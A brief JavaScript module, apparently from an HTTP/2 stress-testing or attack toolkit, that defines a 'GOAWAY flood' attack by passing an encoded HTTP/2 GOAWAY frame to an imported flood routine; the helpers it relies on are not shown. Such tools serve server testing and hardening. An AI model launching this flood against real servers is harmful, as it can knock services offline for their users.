import * as wire from '../http2/wire.js';
import { flood } from './flood.js';

export const attack = flood('GOAWAY flood', wire.frame(wire.GOAWAY, 0, 0, wire.uint32(0, 0)));
